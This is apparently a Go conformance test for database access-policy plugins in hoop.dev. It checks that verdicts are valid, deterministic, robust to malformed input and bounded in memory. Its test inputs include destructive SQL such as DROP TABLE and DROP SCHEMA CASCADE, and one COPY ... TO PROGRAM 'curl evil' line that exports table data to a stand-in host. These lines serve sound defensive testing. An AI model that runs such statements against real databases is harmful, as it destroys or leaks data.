package conformance

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"hoop.dev/hoop/core/wasmhost"
	"hoop.dev/hoop/sdk"
)

// variedInputs are well-formed inputs every policy must answer with a valid
// verdict: ordinary, dangerous, empty, escaped, non-ASCII and long text.
func variedInputs() [][]byte {
	base := sdk.Input{Identity: sdk.Identity{Name: "ci-deploy", Kind: "machine"}, Resource: "orders-db",
		Role: "readonly", Protocol: "postgres", Session: "0190c6a2-7d2e-7b5a-9c1e-2f4a6b8d0e1f"}
	texts := []string{
		"SELECT 1", "select * from users where id = $1", "DROP TABLE users", "DELETE FROM orders",
		"UPDATE accounts SET balance = 0", "TRUNCATE audit_log; DROP SCHEMA public CASCADE",
		"", " ", "SELECT '\"quoted\" \\\\ back\\slash'", "SELECT 'line\nbreak\ttab\r'",
		"SELECT 'héllo wörld 日本語 🚀'", "SELECT '\x00\x01\x1f'", "GRANT ALL ON ALL TABLES TO public",
		"COPY users TO PROGRAM 'curl evil'", "/* comment */ SELECT pg_sleep(10)",
		"BEGIN; INSERT INTO t VALUES (1); COMMIT", "db.users.find({})", "SHOW TABLES",
		strings.Repeat("SELECT 1 UNION ALL ", 4000) + "SELECT 1",
	}
	var out [][]byte
	for _, t := range texts {
		in := base
		in.Statement.Text = t
		out = append(out, sdk.AppendInput(nil, &in))
	}
	human := base
	human.Identity = sdk.Identity{Name: "alice@example.com", Kind: "human"}
	human.Statement.Text = "SELECT now()"
	out = append(out, sdk.AppendInput(nil, &human), sdk.AppendInput(nil, &sdk.Input{}),
		[]byte(`{"identity":{"name":"x","kind":"machine","groups":["a"]},"statement":{"text":"SELECT 2","params":[1,2]},"extra":{"n":1.5e3}}`))
	return out
}

// malformedInputs must get an error or a valid verdict, never a fault.
func malformedInputs() [][]byte {
	return [][]byte{
		nil, []byte("{"), []byte("null"), []byte("[]"), []byte(`"text"`), []byte("{}"),
		[]byte(`{"statement":5}`), []byte(`{"statement":{"text":["a"]}}`), []byte(`{"identity":"bob"}`),
		[]byte(`{"statement":{"text":"\ud800 lone surrogate \uZZZZ"}}`), []byte("{\"statement\":{\"text\":\"\xff\xfe invalid utf8\"}}"),
		[]byte(strings.Repeat("[", 20000)), []byte(strings.Repeat(`{"a":`, 5000)),
		bytes.Repeat([]byte{0xff, 0x00, '{', '"'}, 4096),
		[]byte(`{"statement":{"text":"` + strings.Repeat("x", 1<<20) + `"}}`),
	}
}

// evaluate returns a valid verdict or why there is none.
func (r *runner) evaluate(p *wasmhost.Plugin, in []byte) ([]byte, sdk.Verdict, error) {
	var v sdk.Verdict
	raw, err := p.Evaluate(r.ctx, in)
	if err != nil {
		return nil, v, err
	}
	if !json.Valid(raw) {
		return raw, v, fmt.Errorf("verdict is not JSON: %.200q", raw)
	}
	if err := sdk.DecodeVerdict(raw, &v); err != nil {
		return raw, v, fmt.Errorf("%w: %.200q", err, raw)
	}
	if err := v.Validate(); err != nil {
		return raw, v, fmt.Errorf("%w: %.200q", err, raw)
	}
	return raw, v, nil
}

func (r *runner) policy() error {
	name := r.p.Manifest().Name
	files, err := LoadPolicyCases(r.fsys, name)
	if err != nil {
		return err
	}
	if err := r.p.Configure(r.ctx, []byte("{}")); err != nil {
		r.rep.add("configure", fmt.Errorf("the empty config {} was refused: %w", err))
	} else {
		r.rep.add("configure", nil)
	}

	inputs := variedInputs()
	first := make([][]byte, len(inputs))
	var schemaErr, detErr error
	for i, in := range inputs {
		raw, _, err := r.evaluate(r.p, in)
		if err != nil {
			schemaErr = fmt.Errorf("input %d: %w", i+1, err)
			break
		}
		first[i] = raw
	}
	r.rep.add("verdict-schema", schemaErr)
	if schemaErr == nil {
		for i, in := range inputs {
			raw, _, err := r.evaluate(r.p, in)
			if err == nil && !bytes.Equal(raw, first[i]) {
				err = fmt.Errorf("verdicts differ: %.200q then %.200q", first[i], raw)
			}
			if err != nil {
				detErr = fmt.Errorf("input %d: %w", i+1, err)
				break
			}
		}
	} else {
		detErr = errors.New("not checked: no valid verdicts to compare")
	}
	r.rep.add("determinism", detErr)

	var robErr error
	for i, in := range malformedInputs() {
		if _, _, err := r.evaluate(r.p, in); err != nil {
			var pe *wasmhost.PluginError
			if !errors.As(err, &pe) {
				robErr = fmt.Errorf("malformed input %d: %w", i+1, err)
				break
			}
		}
	}
	r.rep.add("robustness", robErr)

	// The memory check repeats typical statements; the huge ones have had
	// their turn above, and repeating them 100k times measures the plugin's
	// speed, not its memory.
	var typical [][]byte
	for _, in := range inputs {
		if len(in) <= 4096 {
			typical = append(typical, in)
		}
	}
	r.policyMemory(typical)

	check := "cases/policy/" + name
	if len(files) == 0 {
		r.rep.skip(check, "no cases for policy "+name)
		return nil
	}
	r.rep.add(check, r.policyCases(files))
	return nil
}

func (r *runner) policyMemory(inputs [][]byte) {
	n := r.opt.MemoryFeeds
	before := r.p.Stats()
	var mid uint32
	for i := range n {
		if i == n/10 {
			mid = r.p.Stats().MemoryBytes
		}
		if _, err := r.p.Evaluate(r.ctx, inputs[i%len(inputs)]); err != nil {
			r.rep.add("memory-bounded", fmt.Errorf("evaluation %d: %w", i+1, err))
			return
		}
	}
	after := r.p.Stats()
	switch {
	case after.Recycles > before.Recycles:
		r.rep.add("memory-bounded", fmt.Errorf("the instance outgrew half the memory cap during %d evaluations", n))
	case after.MemoryBytes > mid+memoryGrowthLimit:
		r.rep.add("memory-bounded", fmt.Errorf("memory grew from %d to %d bytes between evaluation %d and %d", mid, after.MemoryBytes, n/10, n))
	default:
		r.rep.Checks = append(r.rep.Checks, Check{Name: "memory-bounded", Pass: true,
			Detail: fmt.Sprintf("%d evaluations; linear memory %d bytes after %d, %d at the end", n, mid, n/10, after.MemoryBytes)})
	}
}

func (r *runner) policyCases(files []PolicyCaseFile) error {
	var failed []string
	for _, f := range files {
		p, err := r.h.Load(r.ctx, r.wasm) // a fresh instance per file
		if err != nil {
			return err
		}
		cfg := []byte(f.Config)
		if len(cfg) == 0 {
			cfg = []byte("{}")
		}
		if err := p.Configure(r.ctx, cfg); err != nil {
			p.Close(r.ctx)
			return fmt.Errorf("%s: configure: %w", f.Name, err)
		}
		for _, c := range f.Cases {
			_, v, err := r.evaluate(p, c.Input)
			switch {
			case err != nil:
				failed = append(failed, fmt.Sprintf("%s: %s: %v", f.Name, c.Name, err))
			case v.Decision != c.Decision:
				failed = append(failed, fmt.Sprintf("%s: %s: decision %s, want %s (rule %q: %s)", f.Name, c.Name, v.Decision, c.Decision, v.Rule, v.Reason))
			case c.Rule != "" && v.Rule != c.Rule:
				failed = append(failed, fmt.Sprintf("%s: %s: rule %q, want %q", f.Name, c.Name, v.Rule, c.Rule))
			}
		}
		p.Close(r.ctx)
	}
	if len(failed) > 0 {
		return fmt.Errorf("%d case(s) failed: %s", len(failed), strings.Join(failed, "; "))
	}
	return nil
}
